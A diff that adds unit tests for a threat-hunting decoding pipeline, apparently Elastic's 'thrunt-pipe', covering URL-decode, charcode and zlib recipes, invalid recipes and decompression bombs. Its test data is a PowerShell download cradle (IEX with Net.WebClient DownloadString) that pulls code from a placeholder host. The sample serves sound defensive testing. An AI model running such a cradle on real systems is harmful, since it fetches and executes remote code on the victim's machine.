@@ -0,0 +1,106 @@
+"""Unit tests for thrunt-pipe recipes"""
+# Licensed to Elasticsearch B.V. under one or more contributor
+# license agreements. See the NOTICE file distributed with
+# this work for additional information regarding copyright
+# ownership. Elasticsearch B.V. licenses this file to you under
+# the Apache License, Version 2.0 (the "License"); you may
+# not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+# 	http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing,
+# software distributed under the License is distributed on an
+# "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY
+# KIND, either express or implied.  See the License for the
+# specific language governing permissions and limitations
+# under the License.
+import urllib.parse
+import zlib
+from io import BytesIO
+
+import pytest
+from typer.testing import CliRunner
+
+from elastic.thrunting_tools import pipe
+from elastic.thrunting_tools.format import url_decode
+
+PAYLOAD: bytes = b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n" * 100
+
+
+def run(recipe: str, data: bytes, block_size: int = 4096) -> bytes:
+    _chunks = url_decode.block_generator(BytesIO(data), block_size)
+    return b"".join(pipe.run_recipe(pipe.parse_recipe(recipe), _chunks))
+
+
+def test_generator_reader():
+    """Chunks are read in whatever sizes are asked for, whatever size they come in"""
+    _reader = pipe.GeneratorReader(iter([b"", b"abc", b"defgh", b"", b"i"]))
+    _buffer = bytearray(4)
+
+    _reads = []
+    while _size := _reader.readinto(_buffer):
+        _reads.append(bytes(_buffer[:_size]))
+
+    assert _reads == [b"abc", b"defg", b"h", b"i"]
+
+
+@pytest.mark.parametrize("block_size", [1, 7, 4096])
+def test_recipe(block_size: int):
+    """A URL encoded list of decimal character codes of a zlib stream is unpacked"""
+    _codes = ",".join(str(_byte) for _byte in zlib.compress(PAYLOAD))
+    _data = urllib.parse.quote(_codes).encode("ascii")
+
+    assert (
+        run(
+            "url-decode,from-charcode:base=10:delimiter=\\x2c:encoding=latin-1,"
+            "zlib-inflate",
+            _data,
+            block_size,
+        )
+        == PAYLOAD
+    )
+
+
+def test_recipe_round_trip():
+    """Every encoding step is undone by its decoding step"""
+    _recipe = (
+        "zlib-compress:level=9:strategy=filtered,to-charcode:base=36:encoding=latin-1,"
+        "url-encode:all,url-decode:plus,from-charcode:base=36:encoding=latin-1,"
+        "zlib-decompress:format=zlib:max-ratio=1000"
+    )
+
+    assert run(_recipe, PAYLOAD) == PAYLOAD
+
+
+@pytest.mark.parametrize(
+    "recipe",
+    [
+        "url-unquote",
+        "url-decode:bogus",
+        "url-decode:plus=maybe",
+        "from-charcode:base=99",
+        "from-charcode:encoding=nope",
+        "zlib-inflate:format=lzma",
+        "url-encode:safe=\\xff",
+    ],
+)
+def test_recipe_invalid(recipe: str):
+    """Mistakes in a recipe are reported before any input is read"""
+    with pytest.raises(ValueError):
+        pipe.parse_recipe(recipe)
+
+
+@pytest.mark.parametrize(
+    "recipe,data",
+    [
+        ("zlib-inflate:format=zlib", b"garbage"),
+        ("zlib-inflate:max-size=1000", zlib.compress(bytes(10 * 1024 * 1024))),
+    ],
+)
+def test_recipe_failure(recipe: str, data: bytes):
+    """Corrupt streams and decompression bombs fail the command, without a traceback"""
+    _result = CliRunner().invoke(pipe.app, [recipe], input=data)
+
+    assert _result.exit_code == 1
+    assert isinstance(_result.exception, SystemExit)